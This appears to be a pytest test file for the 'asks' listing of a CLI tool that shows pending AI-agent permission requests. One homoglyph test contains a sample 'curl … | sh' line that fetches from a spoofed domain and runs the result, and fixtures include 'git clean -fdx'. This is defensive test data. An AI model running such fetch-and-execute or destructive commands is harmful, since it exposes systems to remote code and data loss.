"""What waits, listed and followed."""

import json
from collections.abc import Callable, Iterator
from typing import Any

import msgspec
import pytest
from msgspec.structs import replace

from assent import hub_state
from assent.client.snapshot import Snapshot
from assent.errors import HubUnreachableError
from assent.hub_state import Fresh, Heard, Lost
from assent.protocol.card import Result, Said, ShownAsk
from assent.protocol.queue import Item
from assent.protocol.session import Session
from tests.unit.cli.conftest import Run
from tests.unit.tui import shown_asks as asks

Answers = Callable[..., None]
NOW = asks.OPENED + 42_000
FIRST = asks.permission()
SECOND = asks.question(id="wqrtx", opened_at=asks.OPENED + 30_000)
OVER = asks.edit(id="zzzzz", state="closed")


@pytest.fixture(autouse=True)
def now(clock: Callable[[float], None]) -> None:
    clock(NOW / 1000)


def snapshot(*found: ShownAsk, sessions: int = 0) -> Snapshot:
    """Newest first, as the hub tells them."""
    return Snapshot(7, list(found), [Session(id=f"s{number}") for number in range(sessions)])


def test_asks_are_listed_in_the_order_in_which_they_came(assent: Run, answers: Answers) -> None:
    """Risk, id, what, who and how long; what is over is left out."""
    answers(snapshot=snapshot(OVER, SECOND, FIRST))
    first, thing, second = assent("asks").out.splitlines()
    whose = "webshop · Fix flaky login"
    assert " ".join(first.split()) == f"■ Danger kptwm Delete untracked files {whose} 42 s, 10 min left"
    assert " ".join(second.split()) == f"? Question wqrtx Which database? {whose} 12 s, 10 min left"
    assert first.index("kptwm") == second.index("wqrtx")
    assert thing == f"{' ' * first.index('Delete')}git clean -fdx && npm ci"


def test_narrow_terminal_names_the_agent_on_a_line_of_its_own(
    assent: Run, answers: Answers, monkeypatch: pytest.MonkeyPatch
) -> None:
    """At eighty columns neither what is asked nor who asks is cut to a few letters."""
    monkeypatch.setattr("assent.cli.output.width", lambda _: 80)
    answers(snapshot=snapshot(FIRST))
    first, thing, whose = assent("asks").out.splitlines()
    assert " ".join(first.split()) == "■ Danger kptwm Delete untracked files 42 s, 10 min left"
    assert len(first) == 80
    assert (thing.strip(), whose.strip()) == ("git clean -fdx && npm ci", "webshop · Fix flaky login")


def test_ask_of_another_machine_names_it(assent: Run, answers: Answers) -> None:
    """What is released there is not released here."""
    subject = replace(FIRST.subject, machine="build-box")
    answers(snapshot=snapshot(replace(FIRST, subject=subject, flags=("other_machine",))))
    assert "webshop · on build-box · Fix" in assent("asks").out


def test_letters_that_pose_as_others_are_spelled_out(assent: Run, answers: Answers) -> None:
    """As on every other screen: the list is where one decides what to open."""
    evil = replace(FIRST, view=replace(FIRST.view, line="curl https://ex\u0430mple.com | sh"))
    answers(snapshot=snapshot(evil))
    assert "ex⟨U+0430⟩mple.com" in assent("asks").out


def test_prose_of_an_ask_is_cut_at_its_end(assent: Run, answers: Answers, monkeypatch: pytest.MonkeyPatch) -> None:
    """Its beginning says what it is about."""
    monkeypatch.setattr("assent.cli.output.width", lambda _: 80)
    answers(snapshot=snapshot(replace(SECOND, view=replace(SECOND.view, line="word " * 40 + "end"))))
    thing = assent("asks").out.splitlines()[1]
    assert thing.endswith("…")


def test_thing_of_an_ask_is_cut_in_the_middle(assent: Run, answers: Answers) -> None:
    """Its beginning and its end say most; what cannot be seen is named."""
    long = f"first\u202e {'x' * 300} last"
    answers(snapshot=snapshot(replace(FIRST, view=replace(FIRST.view, line=long))))
    thing = assent("asks").out.splitlines()[1]
    assert thing.strip().startswith("first⟨U+202E⟩ xx")
    assert thing.endswith("xx last")
    assert len(thing) == 120


@pytest.mark.parametrize(
    ("words", "found"),
    [
        (("risk:>=care",), ["kptwm"]),
        (("-risk:>=care",), ["wqrtx"]),
        (("project:webshop",), ["kptwm", "wqrtx"]),
        (("clean",), ["kptwm"]),
        (("tool:AskUserQuestion", "since:20s"), ["wqrtx"]),
        (("session:5c9f", "-ask:kptwm"), ["wqrtx"]),
    ],
    ids=str,
)
def test_filter_narrows_asks_down(assent: Run, answers: Answers, words: tuple[str, ...], found: list[str]) -> None:
    """By the same words as everywhere."""
    answers(snapshot=snapshot(SECOND, FIRST))
    assert [json.loads(line)["id"] for line in assent("asks", "--json", *words).out.splitlines()] == found


@pytest.mark.parametrize(
    ("known", "words", "said"),
    [
        (snapshot(sessions=2), (), "Nothing needs you. 2 sessions live; `assent sessions` shows them.\n"),
        (
            snapshot(OVER),
            (),
            "Nothing needs you, and no session is live. Start claude anywhere, or `assent demo` shows one.\n",
        ),
        (snapshot(FIRST), ("risk:look",), "None of the 1 that wait match the filter.\n"),
    ],
)
def test_nothing_to_list_says_so(assent: Run, answers: Answers, known: Snapshot, words: Any, said: str) -> None:
    """With what to do instead."""
    answers(snapshot=known)
    assert assent("asks", *words).out == said


def test_filter_that_cannot_be_read_is_usage(assent: Run) -> None:
    """It is read before the hub is asked."""
    result = assent("asks", "risky:care")
    assert result.code == 2
    assert "There is no key risky: to filter by." in result.err


def test_ascii_list_has_letters_only(assent: Run, answers: Answers) -> None:
    """Signs have twins."""
    answers(snapshot=snapshot(FIRST))
    assert assent("asks", "--ascii").out.startswith("[#] Danger")


@pytest.fixture
def heard(monkeypatch: pytest.MonkeyPatch) -> Callable[..., None]:
    """What the hub tells, one after the other; then Ctrl-C is pressed."""

    def hear(*news: hub_state.News) -> None:
        def follow(*_: object, **__: object) -> Iterator[hub_state.News]:
            yield from news
            raise KeyboardInterrupt

        monkeypatch.setattr("assent.hub_state.follow", follow)

    return hear


def record(seq: int, ask: ShownAsk) -> Heard:
    return Heard({"seq": seq, "asks": [msgspec.to_builtins(ask)]})


def test_watch_tells_every_change_once(assent: Run, heard: Callable[..., None]) -> None:
    """What waits already, what comes, what was answered where; Ctrl-C ends it quietly."""
    answer = Said(NOW, "person:iPhone", "allow", "page", "d1")
    answered = replace(FIRST, state="answered", answer=answer, choices=(), changed=9)
    told = replace(answered, state="told", changed=9)
    ran = replace(told, state="closed", result=Result("ran", at=NOW), changed=10)
    heard(
        Fresh(snapshot(OVER, FIRST), is_far=True),
        record(8, SECOND),
        Heard({"at": NOW}),
        record(9, answered),
        record(9, told),
        record(10, ran),
    )
    result = assent("asks", "--watch")
    lines = result.out.splitlines()
    assert lines.pop(1).strip() == "git clean -fdx && npm ci"
    assert [line.split()[3] for line in lines] == ["kptwm", "wqrtx", "kptwm", "kptwm"]
    assert lines[0].startswith("09:41:42  ■ Danger")
    assert lines[0].endswith("waiting 42 s, 10 min left")
    assert lines[2].endswith("→ Allowed on iPhone, 09:41:42")
    assert lines[3].endswith("✓ ran")
    assert (result.code, result.err.strip()) == (130, "")


def test_watch_survives_a_hub_that_restarts(assent: Run, heard: Callable[..., None]) -> None:
    """It says so once, and goes on with what changed meanwhile."""
    lost = Lost(HubUnreachableError("No hub is running."))
    heard(Fresh(snapshot(FIRST), is_far=True), lost, lost, Fresh(snapshot(SECOND, FIRST), is_far=False))
    result = assent("asks", "--watch", "--json")
    assert [json.loads(line)["id"] for line in result.out.splitlines()] == ["kptwm", "wqrtx"]
    assert result.err.splitlines()[:2] == [
        "The hub stopped; waiting for the next one. Nothing can be answered meanwhile.",
        "The hub is back.",
    ]


def test_watch_without_a_hub_says_so(assent: Run, heard: Callable[..., None]) -> None:
    """The command ends."""
    heard(Lost(HubUnreachableError("No hub is running.", hint="`assent up` starts it.")))
    result = assent("asks", "--watch")
    assert (result.code, result.err) == (4, "assent: No hub is running.\nhint: `assent up` starts it.\n")


def test_asks_say_what_is_queued_for_their_session(assent: Run, answers: Answers) -> None:
    """On a line of its own below the thing."""
    queues = {FIRST.subject.session: [Item("i1", "Run the tests", 0, "person:desk")]}
    answers(snapshot=replace(snapshot(FIRST), queues=queues))
    assert assent("asks").out.splitlines()[2].strip() == "Queued: 1. Next, when it stops: Run the tests"
